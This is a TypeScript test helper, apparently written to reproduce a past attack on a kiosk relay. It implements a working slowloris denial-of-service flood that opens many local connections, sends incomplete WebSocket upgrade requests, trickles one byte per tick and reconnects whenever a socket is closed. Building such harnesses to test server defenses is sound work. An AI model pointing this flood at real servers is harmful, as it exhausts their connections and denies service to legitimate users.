import { connect, type Socket } from 'node:net';

/** One slow connection's life, as the attacker saw it. */
export interface SlowSocketLife {
  source: string;
  openedAt: number;
  closedAt: number;
  /** Bytes sent after the partial request line and headers (one per tick). */
  trickled: number;
}

/**
 * A slowloris flood for tests and the attack script: `perSource` connections from each of `sources`
 * (127.x addresses), each sending a partial `GET /kiosk` and then one byte per `tickMs`, never finishing its
 * headers. A slot whose socket is closed reconnects on the next tick (as the attacker did), so the
 * flood holds as many sockets as the relay lets it. One timer for all sockets.
 */
export class Slowloris {
  readonly lives: SlowSocketLife[] = [];
  connects = 0;
  readonly #sockets = new Set<{ socket: Socket; life: SlowSocketLife; connected: boolean }>();
  readonly #toOpen: string[] = [];
  readonly #timer: NodeJS.Timeout;
  readonly #port: number;
  #stopped = false;

  constructor(port: number, sources: string[], perSource: number, tickMs = 250) {
    this.#port = port;
    for (const s of sources) for (let i = 0; i < perSource; i++) this.#toOpen.push(s);
    this.#timer = setInterval(() => this.#tick(), tickMs);
    this.#tick();
  }

  /** Sockets open right now. */
  get open(): number {
    return this.#sockets.size;
  }

  #tick(): void {
    for (const s of this.#sockets) {
      if (!s.connected) continue;
      s.socket.write('a');
      s.life.trickled++;
    }
    const sources = this.#toOpen.splice(0);
    for (const source of sources) this.#open(source);
  }

  #open(source: string): void {
    if (this.#stopped) return;
    this.connects++;
    const life: SlowSocketLife = { source, openedAt: Date.now(), closedAt: 0, trickled: 0 };
    const socket = connect({ host: '127.0.0.1', port: this.#port, localAddress: source });
    const s = { socket, life, connected: false };
    this.#sockets.add(s);
    socket.on('error', () => undefined);
    socket.on('connect', () => {
      s.connected = true;
      socket.write('GET /kiosk HTTP/1.1\r\nHost: relay\r\nUpgrade: websocket\r\nX-Slow: ');
    });
    socket.on('close', () => {
      this.#sockets.delete(s);
      life.closedAt = Date.now();
      this.lives.push(life);
      if (!this.#stopped) this.#toOpen.push(source);
    });
  }

  stop(): void {
    this.#stopped = true;
    clearInterval(this.#timer);
    for (const s of this.#sockets) s.socket.destroy();
  }
}
